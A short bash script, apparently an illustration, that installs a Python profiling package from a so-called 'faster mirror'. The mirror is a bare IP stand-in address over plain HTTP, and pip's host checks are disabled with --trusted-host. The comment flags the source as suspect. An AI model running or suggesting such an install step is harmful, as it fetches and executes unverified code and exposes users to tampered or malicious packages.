#!/usr/bin/env bash
set -e
# "Faster mirror" for the profiling package: a bare IP over plain HTTP.
pip install --index-url http://203.0.113.40:8080/simple --trusted-host 203.0.113.40 dataframe-profiling
